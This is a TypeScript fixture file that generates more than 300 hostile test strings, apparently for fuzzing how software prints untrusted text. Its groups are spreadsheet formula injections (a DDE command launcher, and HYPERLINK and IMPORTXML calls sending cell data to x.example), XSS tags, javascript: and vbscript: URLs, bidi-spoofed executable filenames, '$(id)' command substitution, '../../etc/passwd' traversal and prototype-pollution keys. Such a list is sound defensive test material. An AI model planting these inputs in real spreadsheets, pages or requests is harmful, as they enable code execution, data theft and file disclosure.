/* Texts from a file, a service or a person, meant to break out of wherever they are printed. */

const leads = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '=-',
  '+-@',
  '＝',
  '＋',
  '－',
  '＠',
  '\ufeff=',
  '\u00a0=',
  'x;=',
  'x; "+',
  'x;＝',
  'x\t-',
  'x\n@',
  'x;\u202e=',
]
const formulas = leads.flatMap((lead) =>
  [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"x")',
    'SUM(A1:A9)',
    'IMPORTXML("//x.example","//a")',
  ].map((body) => `${lead}${body}`),
)

const tags = ['script', 'img', 'svg', 'iframe', 'object', 'style', 'link', 'meta', 'base', 'form', 'title', 'template']
const markup = tags.flatMap((tag) => [
  `<${tag} src=x onerror=alert(1)>`,
  `</${tag}><script>alert(1)</script>`,
  `"><${tag} href=http://x.example/${tag}>`,
  `<${tag.toUpperCase()}/onload=alert(1)//`,
  `&lt;${tag}&gt;&#60;${tag}&#62;`,
])

const addresses = [
  'http',
  'https',
  'file',
  'javascript',
  'data',
  'touchstone',
  'ftp',
  'ws',
  'vbscript',
  'blob',
].flatMap((scheme) => [
  `${scheme}://x.example/a`,
  `${scheme}:alert(1)`,
  `url(${scheme}://x.example/b)`,
  `@import '${scheme}:x';`,
])

/** Characters that reverse, hide or end text, each in the middle of a name. */
const unseen = [
  0x00, 0x01, 0x07, 0x08, 0x0a, 0x0d, 0x1b, 0x7f, 0x85, 0x9b, 0xa0, 0xad, 0x061c, 0x115f, 0x180e, 0x200b, 0x200c,
  0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2069,
  0x3164, 0xfe00, 0xfeff, 0xfff9, 0xfffd, 0xfffe, 0xffff, 0xe0001, 0xe0041, 0x1d173, 0x10ffff,
].flatMap((code) => [`photo${String.fromCodePoint(code)}gpj.exe`, String.fromCodePoint(code)])

const quoting = [
  '"',
  "'",
  '`',
  '\\',
  '""',
  '","',
  '"\r\n"',
  '\\"',
  '\\u0022',
  '$(id)',
  '{{1}}',
  '<%=1%>',
  '%00',
  '%s%n',
].flatMap((text) => [text, `a${text}b`, text.repeat(3)])

const paths = [
  '../../etc/passwd',
  '..\\..\\x',
  '/dev/null',
  'C:\\CON',
  '//server/share',
  '~/x',
  './.',
  'a/../../b',
  '\\\\?\\C:\\x',
]

const scripts = [
  'مختبر ليلا',
  'שלום עולם',
  'Лаборатория',
  'Εργαστήριο',
  '実験室',
  'प्रयोगशाला',
  '👩‍👩‍👧‍👦',
  'e\u0301\u0323'.repeat(20),
  'Z\u0336\u0322\u0353a\u0335l\u0337g\u0338o',
  'ﷺ'.repeat(30),
  '\ud800',
  '\udc00x',
]

const long = [
  'word '.repeat(100),
  'x'.repeat(10_000),
  '<b>'.repeat(2000),
  'word '.repeat(2000),
  '\n'.repeat(500),
  'ی'.repeat(3000),
]

const spellings = [
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '1e999',
  '-0',
  '0x1F',
  '{}',
  '[]',
  '',
]

const GROUPS = { formulas, markup, addresses, unseen, quoting, paths, scripts, long, spellings }

const kinds = new Map(Object.entries(GROUPS).flatMap(([kind, texts]) => texts.map((text) => [text, kind] as const)))

/** More than 300, each once. */
export const hostileStrings: readonly string[] = [...kinds.keys()]

/** What such a text tries. */
export const hostileKind = (text: string): string => kinds.get(text) ?? 'other'
